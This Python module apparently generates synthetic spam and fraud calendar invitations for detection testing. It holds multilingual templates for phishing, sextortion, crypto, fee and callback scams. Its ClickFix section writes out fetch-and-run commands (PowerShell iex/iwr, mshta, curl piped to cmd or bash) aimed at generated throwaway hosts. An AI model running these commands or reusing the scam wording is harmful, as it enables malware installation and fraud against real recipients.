# -*- coding: utf-8 -*-
"""Spam and fraud categories."""
import datetime as dt

from . import world
from .catlib import C
from .util import html_escape, slug

CATS = {}


def cat(name, n, langs, clients, desc):
    def deco(f):
        CATS[name] = dict(fn=f, n=n, langs=langs.split(), clients=clients.split(), desc=desc)
        return f
    return deco


def payload_place(c, ev, link, label=None):
    """hide a link in one or more iCalendar properties"""
    r = c.rng.randint(0, 6)
    label = label or 'Open'
    if r == 0:
        ev['location'] = link
    elif r == 1:
        ev['url'] = link
    elif r == 2:
        ev['alt_html'] = '<html><body><p>%s</p><p><a href="%s"><b>%s</b></a></p></body></html>' % (
            html_escape(ev.get('description') or ev['summary']).replace('\n', '<br>'), link, html_escape(label))
    elif r == 3:
        ev['attach'] = [(link, c.pick(['text/html', 'application/pdf', None]), c.pick([None, 'document.pdf', 'Details.html', 'view.html']))]
    elif r == 4:
        ev['conference'] = [(link, label)]
    elif r == 5:
        ev['description'] = (ev.get('description') or '') + '\n\n' + link
    else:
        ev['description'] = (ev.get('description') or '') + '\n' + link
        ev['location'] = c.pick([link, ev.get('location') or 'Online'])
    return ev


# =========================================================================== 1 retail
RETAIL_BRANDS = ['Ray-Ban', 'Oakley', 'UGG', 'Pandora', 'Michael Kors', 'Nike', 'Canada Goose', 'Lululemon', 'Skechers',
                 'Crocs', 'Le Creuset', 'Stanley', 'Dyson', 'Coach', 'Birkenstock', 'The North Face']
RETAIL_T = {
    'en': [('{brand} Official Outlet – {pct}% OFF Today Only', 'Summer clearance! All {brand} items from {price}. Free shipping, limited stock.\nShop now: {link}'),
           ('🔥 {brand} Black Friday: up to {pct}% off', '{brand} BLACK FRIDAY SALE\nEverything must go. Prices start at {price}.\n{link}'),
           ('{brand} Flash Sale {price}', 'Hello,\nwe are closing our warehouse. {brand} for {price} only this weekend.\nVisit {link} before midnight.'),
           ('Clearance: {brand} {item} only {price}', 'Last {n} pieces left. Order at {link}\nUnsubscribe: reply STOP'),
           ('{brand} Mother\'s Day deals – {pct}% off everything', 'Treat her to {brand}. Today only with code MOM{n}.\n{link}')],
    'de': [('{brand} Outlet – heute {pct}% Rabatt', 'Lagerräumung! Alle {brand} Artikel ab {price}. Versandkostenfrei.\nJetzt kaufen: {link}'),
           ('{brand} Sommerschlussverkauf ab {price}', 'Nur noch {n} Stück auf Lager. Bestellen Sie hier: {link}')],
    'fr': [('Soldes {brand} : -{pct}% aujourd\'hui seulement', 'Déstockage massif ! Tous les articles {brand} à partir de {price}. Livraison gratuite.\n{link}')],
    'ja': [('【{brand}公式アウトレット】本日限り{pct}%OFF', '在庫一掃セール！{brand}全品{price}から。送料無料。\n今すぐチェック：{link}')],
    'zh-TW': [('{brand} 限時特賣 {pct}% OFF', '年終清倉！{brand} 全館 {price} 起，免運費。\n立即搶購：{link}')],
    'it': [('Outlet {brand}: sconti fino al {pct}%', 'Svendita totale! Tutti i prodotti {brand} da {price}. Spedizione gratuita.\nAcquista ora: {link}')],
}
ITEMS = ['sunglasses', 'boots', 'bracelet', 'handbag', 'sneakers', 'jacket', 'tumbler', 'Dutch oven', 'hair dryer']


@cat('retail-sale-wave', 12, 'de fr ja zh-TW it', 'icloud google google exchange yahoo custom booking booking thunderbird outlook nextcloud list',
     'fake outlet / brand sale waves pushed as calendar invitations')
def retail(c):
    b = c.pick(RETAIL_BRANDS)
    shop = 'https://' + c.pick(['www.', '', 'shop.']) + world.slug(b).replace('-', c.pick(['', '-'])) + c.pick(['-outlet', 'sale', '-official', 'store', '-clearance', 'shop']) + '.' + c.pick(['shop', 'store', 'top', 'online', 'com', 'xyz', 'site'])
    link = shop + c.pick(['', '/?utm_source=cal', '/sale', '/?id=' + c.rng.alnum(8)])
    s = dict(brand=b, pct=c.pick([70, 75, 80, 85, 90]), price=c.money(9, 39), link=link, n=c.rng.randint(3, 60), item=c.pick(ITEMS))
    summ, desc = c.t(RETAIL_T, s)
    org = c.org(['free', 'throwaway', 'compromised'], name=c.pick([b + ' Outlet', b + ' Store', b + ' Official', b, 'Sale ' + b, c.person('en')['name']]),
                local=c.junk_local(c.pick([b, 'sale', 'shop', None])))
    e = c.ev(summ, desc, None, c.when(days=(0, 3), hours=(8, 20), dur=(60, 180)))
    if c.chance(0.5):
        payload_place(c, e, link, 'SHOP NOW')
    mass = c.pick([0, 0, c.rng.randint(20, 180)])
    return c.msg(org, [e], mass=mass, sloppy=c.pick([set(), set(), {'noesc'}, {'nofold'}]))


# =========================================================================== 2 prize / survey
PRIZE_BRANDS = ['Costco', 'Walmart', 'Amazon', 'Lidl', 'Aldi', 'Samsung', 'T-Mobile', 'Kohl\'s', 'Home Depot', 'Tesco',
                'IKEA', 'Carrefour', 'Coca-Cola', 'Shell', 'Verizon', 'Netflix']
PRIZE_T = {
    'en': [('Congratulations {name}! Your {brand} reward is ready', 'You have been selected to receive a {prize}.\nAnswer 3 quick questions to claim: {link}\nOffer expires in 24 hours.'),
           ('{brand} Customer Survey – win a {prize}', 'Dear customer,\nthank you for shopping with {brand}. Take our 30-second survey and get a {prize}.\n{link}'),
           ('Final notice: unclaimed {brand} gift card ({amount})', 'Our records show an unclaimed {brand} gift card worth {amount} on your account.\nConfirm your shipping details: {link}'),
           ('You\'re our lucky visitor today!', 'Every day we pick 10 random users. Today it\'s you: {prize}.\nJust pay shipping ({ship}). {link}'),
           ('{brand} loyalty program: {points} points expire today', 'Redeem your {points} points for a {prize} before midnight.\n{link}')],
    'es': [('¡Enhorabuena! Has sido seleccionado por {brand}', 'Has sido elegido para recibir un {prize}. Responde a 3 preguntas para reclamarlo: {link}\nLa oferta caduca en 24 horas.')],
    'pt': [('Parabéns! Você ganhou um {prize} da {brand}', 'Você foi selecionado em nossa promoção de aniversário. Pague apenas o frete de {ship} e receba seu prêmio.\n{link}')],
    'pl': [('Gratulacje! Bon {brand} o wartości {amount}', 'Zostałeś wybrany w naszej ankiecie klientów. Odbierz bon tutaj: {link}\nOferta ważna 24 godziny.')],
    'tr': [('Tebrikler! {brand} hediye kartı kazandınız', '{amount} değerindeki hediye kartınızı almak için kısa anketi doldurun: {link}')],
    'ko': [('[{brand}] 축하합니다! 경품 당첨 안내', '고객님께서 {prize} 경품에 당첨되셨습니다. 24시간 이내에 배송 정보를 입력해 주세요.\n{link}')],
}
PRIZES = ['Dyson V15 vacuum', 'Apple iPhone 15 Pro', 'Samsung Galaxy S24', 'KitchenAid mixer', 'Ninja air fryer',
          '$500 gift card', 'PlayStation 5', 'Apple Watch', 'Yeti cooler set', 'Makita drill kit']


@cat('prize-survey-lure', 12, 'es pt pl tr ko', 'google google icloud exchange zimbra custom booking zoom sogo list outlook thunderbird',
     'prize, loyalty-points, survey and gift-card lures')
def prize(c):
    b = c.pick(PRIZE_BRANDS)
    link = c.pick([world.abuse_host_link(c.rng, b), world.shortlink(c.rng), world.lookalike_link(c.rng, b + ' rewards')])
    s = dict(name=c.rfirst(), brand=b, prize=c.pick(PRIZES), link=link, amount=c.money(50, 750, False),
             ship=c.money(1, 3), points=c.rng.randint(1500, 98000))
    summ, desc = c.t(PRIZE_T, s)
    org = c.org(['free', 'throwaway', 'compromised', 'spoof'], name=c.pick([b + ' Rewards', b + ' Customer Care', 'Survey Team', b, 'Promo Center']),
                local=c.junk_local())
    e = c.ev(summ, desc, c.pick(['Online', None, b + ' Rewards Center', link]), c.when(days=(0, 2), hours=(7, 21), dur=(15, 60)))
    if c.chance(0.6):
        payload_place(c, e, link, 'CLAIM NOW')
    return c.msg(org, [e], mass=c.pick([0, 0, 0, c.rng.randint(5, 60)]))


# =========================================================================== 3 crypto
CRYPTO_T = {
    'en': [('Pending withdrawal: {btc} BTC', 'Your withdrawal of {btc} BTC ({usd}) is pending. If you did not request this, cancel at {link}\nSupport ID: {code}'),
           ('Private webinar: AI trading that pays {pct}% weekly', 'Join our closed session and see how our quantum AI bot made {usd} for members last month.\nSeats are limited. Register: {link}'),
           ('Your {exch} wallet has been credited', 'Hello {name}, an airdrop of {usd} in USDT has been credited to your wallet. Activate it within 48h: {link}'),
           ('Hi, is this {name}? About the gold account', 'Hi dear, my uncle showed me a gold contract strategy, I made {usd} this month. I can teach you, add me on WhatsApp {phone} 😊'),
           ('Token presale – final round', 'Last chance to buy {coin} at $0.0{n} before listing on major exchanges. Whitelist: {link}'),
           ('Account review: unclaimed staking rewards', 'We found {usd} in unclaimed staking rewards linked to your e-mail. Claim before {date}: {link}')],
    'ru': [('Вывод средств: {btc} BTC ожидает подтверждения', 'Ваш вывод {btc} BTC ожидает подтверждения. Если это были не вы, отмените операцию: {link}')],
    'ar': [('فرصة استثمارية: أرباح يومية {pct}%', 'انضم إلى منصة التداول بالذكاء الاصطناعي واحصل على أرباح يومية مضمونة. للتسجيل: {link}\nواتساب: {phone}')],
    'de': [('Ihr Krypto-Guthaben: {usd} zur Auszahlung bereit', 'Sehr geehrte/r {name}, auf Ihrem Konto bei {exch} liegt ein Guthaben von {usd}. Auszahlung bis {date} beantragen: {link}')],
    'hi': [('क्रिप्टो निवेश: रोज़ {pct}% मुनाफ़ा', 'नमस्ते {name}, हमारे AI ट्रेडिंग ग्रुप से जुड़ें और रोज़ाना कमाएं। अभी रजिस्टर करें: {link}\nटेलीग्राम: @{tg}')],
    'th': [('ลงทุนคริปโต กำไร {pct}% ต่อสัปดาห์', 'สวัสดีค่ะ สนใจลงทุนกับระบบเทรด AI ของเรา กำไรแน่นอน สมัครเลย: {link}\nไลน์: {tg}')],
}
EXCH = ['Coinbase', 'Binance', 'Kraken', 'Crypto.com', 'Bybit', 'OKX', 'Bitget', 'MetaMask', 'Trust Wallet']


@cat('crypto-investment', 12, 'ru ar de hi th', 'google exchange icloud zoom custom booking thunderbird nextcloud yahoo list outlook google',
     'crypto withdrawal scares, fake AI-trading webinars, airdrops and pig-butchering openers')
def crypto(c):
    ex = c.pick(EXCH)
    link = c.pick([world.lookalike_link(c.rng, ex), 'https://' + world.throwaway_domain(c.rng, [c.pick(['quantum', 'ai', 'bit', 'coin', 'trade', 'profit']), c.pick(['trade', 'edge', 'pro', 'fx', 'x'])]) + '/r/' + c.rng.alnum(6),
                   world.abuse_host_link(c.rng, ex)])
    s = dict(btc='%.4f' % c.rng.uniform(0.05, 2.5), usd=c.money(1800, 48000, False, 'en' if c.lang in ('hi', 'th', 'ar') else None), link=link, code=c.rng.alnum(8).upper(),
             pct=c.pick([3, 5, 8, 12, 15, 20]), exch=ex, name=c.rfirst(), phone=c.phone(lang=c.pick(['en', 'en', c.lang])),
             coin=c.pick(['$NEXAI', '$QNTM', '$PEPE2', '$SOLX', '$ORBT']), n=c.rng.randint(11, 95),
             date=(c.ctx.arrival + dt.timedelta(days=3)).strftime('%d/%m/%Y'), tg=c.rng.alnum(8).lower() + '_' + c.pick(['trade', 'vip', 'signals']))
    summ, desc = c.t(CRYPTO_T, s)
    org = c.org(['free', 'throwaway', 'lookalike', 'compromised'], name=c.pick([ex + ' Support', ex, ex + ' Security', 'AI Trading Club', c.person()['name'], 'Quantum Invest']),
                local=c.junk_local())
    e = c.ev(summ, desc, None, c.when(days=(0, 5), hours=(8, 21), dur=(30, 90)))
    if c.client == 'zoom' or c.chance(0.3):
        e['meeting'] = 'zoom' if c.client == 'zoom' else None
    if c.chance(0.6):
        payload_place(c, e, link, 'Confirm')
    return c.msg(org, [e])


# =========================================================================== 4 dating / sextortion
DATING_T = {
    'en': [('{girl} ({age}) wants to meet you tonight', 'Hi handsome 😘 I saw your profile. I\'m only in town until Sunday. My photos are here: {link}'),
           ('New private message from {girl}', 'You have 1 unread message and 2 photos. View: {link}'),
           ('I know your secret', 'Hello. I have access to your device and I recorded you through the camera while you were watching adult sites. Transfer {amt} in Bitcoin to {wallet} within 48 hours or the video goes to all your contacts. The timer started when this event opened.'),
           ('Payment reminder – your video', 'This is your last reminder. Send {amt} BTC equivalent to {wallet}. Do not contact the police. I will know.'),
           ('Date night? ❤️', 'hey it\'s {girl} from the app, my account got blocked 😢 write me here {link}')],
    'de': [('{girl} ({age}) möchte dich heute treffen', 'Hallo Süßer 😘 ich habe dein Profil gesehen. Ich bin nur bis Sonntag in der Stadt. Meine Bilder: {link}'),
           ('Ich weiß, was Sie getan haben', 'Ich habe Zugriff auf Ihr Gerät und Sie über die Kamera aufgenommen. Überweisen Sie {amt} in Bitcoin an {wallet}, sonst geht das Video an alle Ihre Kontakte.')],
    'fr': [('{girl}, {age} ans, veut te rencontrer', 'Coucou 😘 j\'ai vu ton profil, je suis seule ce soir. Mes photos privées : {link}')],
    'ru': [('{girl} ({age}) хочет познакомиться', 'Привет 😘 увидела твою анкету. Я в городе до воскресенья. Мои фото здесь: {link}'),
           ('У меня есть видео с тобой', 'Я получил доступ к твоему устройству и записал тебя через камеру. Переведи {amt} в биткоинах на {wallet} в течение 48 часов.')],
    'ja': [('{girl}さんからメッセージが届いています', 'はじめまして😊 プロフィールを見て気になりました。今夜会えませんか？写真はこちら：{link}')],
    'nl': [('{girl} ({age}) wil je vanavond ontmoeten', 'Hoi schat 😘 ik zag je profiel. Ik ben maar tot zondag in de stad. Mijn foto\'s: {link}')],
}
GIRLS = {'en': ['Anna', 'Jessica', 'Kristina', 'Mila', 'Sophie', 'Vika'], 'de': ['Lena', 'Jana', 'Nina'], 'fr': ['Chloé', 'Manon'],
         'ru': ['Алина', 'Катя', 'Настя'], 'ja': ['ゆい', 'あやか', 'みさき'], 'nl': ['Sanne', 'Lotte']}


@cat('dating-sextortion', 10, 'de fr ru ja nl', 'google icloud yahoo thunderbird custom outlook zimbra exchange zimbra google',
     'dating lures and sextortion demands')
def dating(c):
    girl = c.pick(GIRLS.get(c.lang, GIRLS['en']))
    link = c.pick([world.shortlink(c.rng), 'https://' + world.throwaway_domain(c.rng, [c.pick(['hot', 'meet', 'date', 'love', 'flirt']), c.pick(['local', 'girls', 'now', 'chat'])]) + '/?u=' + c.rng.alnum(6), world.abuse_host_link(c.rng)])
    wallet = 'bc1q' + c.rng.alnum(38, 'acdefghjklmnpqrstuvwxyz023456789')
    s = dict(girl=girl, age=c.rng.randint(21, 29), link=link, wallet=wallet, amt=c.money(900, 2500, False, 'en' if c.lang not in ('de',) else 'de'))
    summ, desc = c.t(DATING_T, s)
    extort = wallet in desc
    org = c.org(['free', 'spoof', 'throwaway', 'compromised'], name=girl if not extort else c.pick([None, 'Hacker', c.rcpt['name']]),
                local=c.junk_local() if not extort else c.rcpt['addr'].split('@')[0])
    if extort and org['kind'] == 'spoof':
        org['domain'] = c.rcpt['domain']
    e = c.ev(summ, desc, None, c.when(days=(0, 2), hours=(18, 23), dur=(30, 60)))
    if not extort and c.chance(0.6):
        payload_place(c, e, link, 'View photos')
    if extort and c.chance(0.5):
        e['alarms'] = ['-PT%dM' % i for i in (0, 5, 15, 60)]
    return c.msg(org, [e], no_rcpt_att=extort and c.chance(0.3))


# =========================================================================== 5 fees
FEE_T = {
    'en': [('{carrier}: parcel on hold – unpaid customs fee', 'Your parcel {code} could not be delivered because of an unpaid fee of {fee}. Please pay within 48 hours: {link}'),
           ('Unpaid toll notice – {toll}', 'You have an outstanding toll balance of {fee}. To avoid a late fee of {late}, pay today at {link}'),
           ('HMRC: you are eligible for a tax refund of {refund}', 'After the annual calculation of your fiscal activity you are eligible to receive a tax refund. Submit your request: {link}'),
           ('Traffic violation – payment due', 'Notice {code}: camera-recorded violation on {date}. Fine {fee}. Pay online before the due date to avoid suspension: {link}')],
    'es': [('Correos: su envío está retenido', 'Su paquete {code} está pendiente de pago de aranceles ({fee}). Realice el pago en 48 horas: {link}')],
    'fr': [('Colissimo : votre colis est en attente', 'Votre colis {code} n\'a pas pu être livré. Frais de réexpédition : {fee}. Payez ici : {link}'),
           ('ANTAI : avis de contravention', 'Avis de contravention n° {code}. Montant {fee}, majoré si non réglé sous 72 h : {link}')],
    'nl': [('PostNL: uw pakket wacht op betaling', 'Uw pakket {code} kan niet worden bezorgd. Openstaande invoerkosten: {fee}. Betaal via {link}')],
    'it': [('Poste Italiane: spedizione in giacenza', 'La sua spedizione {code} è in giacenza per mancato pagamento di {fee}. Paghi entro 48 ore: {link}')],
    'pt': [('Correios: sua encomenda está retida', 'Sua encomenda {code} aguarda pagamento da taxa de importação de {fee}. Regularize em: {link}')],
    'el': [('ΕΛΤΑ: το δέμα σας βρίσκεται σε αναμονή', 'Το δέμα σας {code} δεν παραδόθηκε λόγω απλήρωτου τέλους {fee}. Πληρώστε εδώ: {link}')],
    'cs': [('Česká pošta: zásilka čeká na doplatek', 'Vaše zásilka {code} nemohla být doručena. Doplatek {fee} uhraďte do 48 hodin: {link}')],
    'he': [('דואר ישראל: החבילה שלך ממתינה לתשלום', 'החבילה {code} לא נמסרה בשל חוב מכס בסך {fee}. לתשלום: {link}')],
}
CARRIERS = ['DHL', 'USPS', 'UPS', 'FedEx', 'Royal Mail', 'Evri', 'Canada Post', 'Australia Post']
TOLLS = ['E-ZPass', 'SunPass', 'FasTrak', 'TxTag', 'The Toll Roads', 'Dart Charge']


@cat('fee-scam', 12, 'es fr nl it pt el cs he', 'google icloud custom booking exchange thunderbird outlook yahoo sogo zimbra custom google',
     'delivery, toll, tax-refund and fine payment scams')
def fee(c):
    carrier = c.pick(CARRIERS)
    brand = {'es': 'Correos', 'fr': 'Colissimo', 'nl': 'PostNL', 'it': 'Poste Italiane', 'pt': 'Correios', 'el': 'ELTA',
             'cs': 'Ceska posta', 'he': 'Israel Post'}.get(c.lang, carrier)
    link = c.pick([world.lookalike_link(c.rng, brand), world.abuse_host_link(c.rng, brand), 'https://' + brand.lower().replace(' ', '') + '.' + world.junk_word(c.rng, 2) + '.' + c.pick(['top', 'xyz', 'cfd', 'sbs', 'icu', 'com']) + '/pay'])
    s = dict(carrier=carrier, toll=c.pick(TOLLS), code=c.pick(['RR', 'CX', 'LP', 'JJD', '1Z', 'EA']) + c.rng.digits(9) + c.pick(['', 'GB', 'US', 'NL', 'DE']),
             fee=c.money(1.2, 8.5), late=c.money(25, 60), refund=c.money(180, 690, lang='en'), link=link,
             date=(c.ctx.arrival - dt.timedelta(days=c.rng.randint(3, 20))).strftime('%d/%m/%Y'))
    summ, desc = c.t(FEE_T, s)
    org = c.org(['free', 'throwaway', 'spoof', 'lookalike', 'compromised'], name=c.pick([brand, brand + ' Customer Service', brand + ' Notification', 'Notice', summ.split(':')[0]]),
                local=c.pick(['noreply', 'notification', 'service', c.junk_local()]))
    if org['kind'] == 'lookalike':
        org['domain'] = world.brand_lookalike(c.rng, brand)
    e = c.ev(summ, desc, c.pick([None, 'Online', link]), c.when(days=(0, 2), hours=(8, 19), dur=(15, 30)))
    if c.chance(0.5):
        payload_place(c, e, link, 'Pay now')
    return c.msg(org, [e])


# =========================================================================== 6 credential phishing
PHISH_T = {
    'en': [('Password expiry notice for {email}', 'Your Microsoft 365 password expires today. Keep your current password here: {link}\n\nIT Service Desk'),
           ('{sender} sent you a document to review and sign', 'Please review and sign: {doc}\nREVIEW DOCUMENT: {link}\nThis link expires in 48 hours. Powered by DocuSign.'),
           ('Your PayPal account has been limited', 'We noticed unusual activity. To restore full access, confirm your information: {link}\nCase ID: {code}'),
           ('Unusual sign-in attempt – action required', 'We detected a sign-in to your {bank} online banking from a new device ({city}). If this wasn\'t you, secure your account: {link}'),
           ('{sender} shared "{doc}" with you (Adobe Acrobat)', 'You have been granted access to a secure PDF. Open with Adobe Document Cloud: {link}'),
           ('Files sent to you via Dropbox Transfer', '{sender} sent you {n} files ({size} MB). Download before {date}: {link}'),
           ('Mailbox quota reached 99%', 'Your mailbox {email} has reached its storage limit. Incoming mails will be held. Upgrade your quota: {link}'),
           ('IRS: identity verification required', 'To process your {year} return we need to verify your identity. Complete verification at {link} within 5 days.')],
    'de': [('Ihr Passwort läuft heute ab', 'Das Passwort für {email} läuft heute ab. Behalten Sie Ihr aktuelles Passwort: {link}\n\nIhr IT-Support'),
           ('Sparkasse: Aktualisierung Ihrer Daten erforderlich', 'Aufgrund neuer Sicherheitsrichtlinien müssen Sie Ihr pushTAN-Verfahren bis {date} bestätigen: {link}')],
    'fr': [('Votre compte Ameli : remboursement en attente', 'Un remboursement de {amount} est en attente. Mettez à jour vos coordonnées : {link}')],
    'es': [('Documento pendiente de firma', '{sender} le ha enviado un documento para revisar y firmar: {doc}\nREVISAR: {link}')],
    'ar': [('تنبيه أمني: تحديث بيانات حسابك المصرفي', 'تم تعليق بعض خدمات حسابك في {bank}. لتفعيلها يرجى تحديث بياناتك: {link}')],
    'zh': [('邮箱账户即将停用通知', '您的邮箱 {email} 因未完成年度验证将被停用，请于24小时内完成验证：{link}\n—— 信息中心')],
    'el': [('Ειδοποίηση: λήξη κωδικού πρόσβασης', 'Ο κωδικός για το {email} λήγει σήμερα. Διατηρήστε τον τρέχοντα κωδικό εδώ: {link}')],
    'sv': [('BankID: förnya ditt certifikat', 'Ditt BankID-certifikat upphör {date}. Förnya här för att undvika avbrott: {link}')],
}
BANKS = ['Chase', 'Wells Fargo', 'Barclays', 'HSBC', 'Santander', 'ING', 'Commonwealth Bank', 'Emirates NBD', 'Al Rajhi Bank', 'Bank of America']


@cat('credential-phish', 14, 'de fr es ar zh el sv', 'exchange exchange outlook google custom booking thunderbird zimbra sogo nextcloud icloud zoom list google',
     'credential phishing under Microsoft 365, DocuSign, PayPal, banks, Adobe, Dropbox and government brands')
def phish(c):
    bank = c.pick({'ar': ['Emirates NBD', 'Al Rajhi Bank', 'Bank Muscat'], 'de': ['Sparkasse', 'Volksbank', 'Commerzbank'], 'fr': ['Crédit Agricole', 'BNP Paribas'],
                   'es': ['Santander', 'BBVA', 'CaixaBank'], 'zh': ['工商银行', '招商银行'], 'el': ['Eurobank', 'Alpha Bank'], 'sv': ['Swedbank', 'Handelsbanken']}.get(c.lang, BANKS))
    sender = c.person('en')['name'] if c.chance(0.6) else c.person()['name']
    s = dict(email=c.rcpt['addr'], sender=sender, doc=c.pick(['Remittance_Advice_%s.pdf' % c.rng.digits(5), 'Contract Amendment Q%d' % c.rng.randint(1, 4),
                                                              'Payroll Adjustment %d' % c.ctx.arrival.year, 'NDA – %s' % c.rcpt['domain'], 'Invoice #%s' % c.rng.digits(6)]),
             code=c.rng.alnum(10).upper(), bank=bank, city=c.pick(['Lagos', 'Bucharest', 'Jakarta', 'Kyiv', 'Manila', 'São Paulo']),
             n=c.rng.randint(2, 6), size=c.rng.randint(3, 80), date=(c.ctx.arrival + dt.timedelta(days=2)).strftime('%d.%m.%Y'),
             year=c.ctx.arrival.year - 1, amount=c.money(80, 400), link='LINK')
    summ, desc = c.t(PHISH_T, s)
    brand = 'Microsoft 365' if 'Microsoft' in desc or 'password' in summ.lower() or 'Passwort' in summ else \
        'DocuSign' if 'sign' in desc.lower() else 'PayPal' if 'PayPal' in summ else bank
    link = c.pick([world.lookalike_link(c.rng, brand), world.abuse_host_link(c.rng, brand), world.abuse_host_link(c.rng, brand),
                   'https://%s/%s#%s' % (world.throwaway_domain(c.rng), c.pick(['o365', 'auth', 'sso', 'wp-admin/js']), world.slug(c.rcpt['addr']).replace('-', '') if c.chance(0.5) else c.rng.alnum(12))])
    desc = desc.replace('LINK', link)
    org = c.org(['compromised', 'free', 'lookalike', 'throwaway', 'spoof'], name=c.pick([brand, brand + ' Security', 'IT Service Desk', sender, 'Administrator', 'Mail Admin']),
                local=c.pick(['noreply', 'security', 'it-support', 'helpdesk', c.junk_local()]))
    if org['kind'] == 'lookalike' and c.chance(0.5):
        org['domain'] = world.brand_lookalike(c.rng, brand)
    e = c.ev(summ, desc, c.pick([None, 'Online', 'Microsoft Teams Meeting', link]), c.when(days=(0, 3), hours=(8, 17), dur=(15, 30)))
    payload_place(c, e, link, c.pick(['Review Document', 'Keep Password', 'Verify', 'Open']))
    if c.chance(0.35):
        e['description'] = summ  # body stays bland, payload only in the calendar object
    return c.msg(org, [e])


# =========================================================================== 7 callback
CALLBACK_T = {
    'en': [('Order confirmation #{order} – {brand} auto-renewal', 'Thank you for renewing {brand} ({plan}). {amount} will be charged to your account within 24 hours.\nTo cancel or request a refund call {phone}.'),
           ('Invoice {order}: {brand} subscription renewed', 'Dear customer, your {brand} subscription has been renewed for 3 years. Total {amount}.\nNot you? Call our billing desk: {phone}'),
           ('Payment sent: {amount} to {merchant}', 'You sent {amount} USD to {merchant}. If you did not authorise this transaction, call {brand} Resolution Center at {phone}.'),
           ('Your {brand} protection has expired', 'Your device is no longer protected. Renewal of {amount} was processed. Help line: {phone} (24/7)'),
           ('Geek Squad Membership Renewal', 'Membership ID {order}\nAmount: {amount}\nQuestions? {phone}')],
    'de': [('Rechnung {order}: {brand}-Abo verlängert', 'Ihr {brand}-Abonnement wurde automatisch verlängert. Betrag: {amount}. Zur Stornierung rufen Sie an: {phone}')],
    'es': [('Confirmación de pedido #{order}', 'Gracias por renovar {brand}. Se cargarán {amount} en su cuenta. Para cancelar llame al {phone}.')],
    'he': [('חידוש מנוי {brand} – חשבונית {order}', 'המנוי שלך ל-{brand} חודש. סכום החיוב: {amount}. לביטול התקשרו: {phone}')],
    'hi': [('{brand} सदस्यता नवीनीकरण – {order}', 'आपकी {brand} सदस्यता नवीनीकृत हो गई है। राशि {amount}। रद्द करने के लिए कॉल करें: {phone}')],
    'it': [('Conferma ordine n. {order}', 'Grazie per aver rinnovato {brand}. Addebito di {amount} entro 24 ore. Per annullare chiami il {phone}.')],
}
CB_BRANDS = ['Norton 360', 'McAfee Total Protection', 'Geek Squad', 'PayPal', 'Microsoft Defender', 'Amazon Prime', 'Best Buy Tech Support', 'Avast Premium']


@cat('callback-scam', 12, 'de es he hi it', 'icloud google google exchange yahoo booking booking outlook custom zoom exchange list',
     'subscription-renewal and payment-alert callback scams (phone number only)')
def callback(c):
    b = c.pick(CB_BRANDS)
    s = dict(brand=b, order=c.pick(['', 'INV-', 'NS', 'GS']) + c.rng.digits(c.rng.randint(7, 10)), plan=c.pick(['3 devices', 'Family', 'Premium 5 PCs', 'Total']),
             amount=c.money(299, 799, lang='en' if c.lang in ('he', 'hi') else None), phone=c.phone(True, 'en'),
             merchant=c.pick(['Coinbase Inc', 'Best Buy', 'Apple.com', 'eBay Seller 83412']))
    summ, desc = c.t(CALLBACK_T, s)
    org = c.org(['free', 'compromised', 'throwaway'], name=c.pick([b, b + ' Billing', 'Billing Department', s['phone'], 'Invoice ' + s['order']]),
                local=c.junk_local())
    e = c.ev(summ, desc, c.pick([None, s['phone'], 'Call ' + s['phone'], 'Billing Department']), c.when(days=(0, 2), hours=(8, 18), dur=(15, 60)))
    if c.chance(0.4):
        e['summary'] = summ + ' ' + s['phone']
    return c.msg(org, [e], mass=c.pick([0, 0, c.rng.randint(3, 40)]))


# =========================================================================== 8 fake update / paste this command
UPD_T = {
    'en': [('Action required before your meeting: update {app}', 'Your {app} client ({ver}) is no longer supported for this meeting. Install the update before joining: {link}'),
           ('Verification needed to join', 'To confirm you are not a robot:\n1. Press Windows + R\n2. Paste: {cmd}\n3. Press Enter\nThen join the meeting.'),
           ('{app} meeting: {topic}', 'Join meeting: {link}\nIf the meeting does not open, download the latest {app} plugin.'),
           ('Shared document requires viewer update', 'The document "{topic}" requires the latest secure viewer. Update here: {link}')],
    'pl': [('Wymagana aktualizacja {app} przed spotkaniem', 'Twoja wersja {app} ({ver}) nie jest już obsługiwana. Zainstaluj aktualizację przed dołączeniem: {link}')],
    'ko': [('[{app}] 회의 참가 전 업데이트 필요', '현재 버전({ver})은 더 이상 지원되지 않습니다. 회의 참가 전에 업데이트를 설치하세요: {link}')],
    'tr': [('Toplantıya katılmadan önce doğrulama', 'Robot olmadığınızı doğrulamak için:\n1. Windows + R tuşlarına basın\n2. Şunu yapıştırın: {cmd}\n3. Enter\'a basın')],
    'pt': [('Atualização obrigatória do {app}', 'Sua versão do {app} ({ver}) está desatualizada. Instale a atualização antes da reunião: {link}')],
}


@cat('fake-update-clickfix', 10, 'pl ko tr pt', 'exchange exchange zoom google custom thunderbird outlook nextcloud google booking',
     'fake meeting-client updates and "paste this command" (ClickFix) lures')
def fakeupd(c):
    app = c.pick(['Zoom', 'Microsoft Teams', 'Webex', 'Google Meet', 'Zoom Workplace'])
    dom = world.brand_lookalike(c.rng, app.split()[-1])
    link = c.pick(['https://%s/download/%s' % (dom, c.pick(['ZoomInstaller.exe', 'MSTeamsSetup_x64.msi', 'webex-update.msix', 'meet-plugin.dmg', 'update.js'])),
                   'https://%s/j/%s?pwd=%s' % (dom, c.rng.digits(11), c.rng.alnum(20)), 'https://%s/l/meetup-join/19%%3ameeting_%s' % (dom, c.rng.alnum(30))])
    cmd = c.pick(['powershell -w h -nop -c "iex(iwr %s -UseBasicParsing)"' % ('https://' + world.throwaway_domain(c.rng) + '/' + c.rng.alnum(5)),
                  'mshta https://%s/%s # I am not a robot - reCAPTCHA Verification ID: %s' % (world.throwaway_domain(c.rng), c.rng.alnum(6), c.rng.digits(4)),
                  'cmd /c curl -s %s | cmd' % ('https://' + world.throwaway_domain(c.rng) + '/v'),
                  'curl -s https://%s/i.sh | bash' % world.throwaway_domain(c.rng)])
    topic = c.pick(['Q3 budget review', 'Partnership proposal', 'Contract discussion', 'Interview – final round', 'Investor call', 'Board pack'])
    s = dict(app=app, ver='%d.%d.%d' % (c.rng.randint(4, 6), c.rng.randint(0, 16), c.rng.randint(0, 9)), link=link, cmd=cmd, topic=topic)
    summ, desc = c.t(UPD_T, s)
    org = c.org(['compromised', 'free', 'lookalike', 'throwaway'], name=c.pick([c.person('en')['name'], app, app + ' Notifications', c.person()['name']]),
                local=None, person=c.person('en'))
    e = c.ev(summ if c.chance(0.5) else topic, desc, c.pick([link, app + ' Meeting', None]), c.when(days=(0, 4), hours=(9, 17), dur=(30, 60)))
    if c.chance(0.5):
        e['conference'] = [(link, app)]
    return c.msg(org, [e])


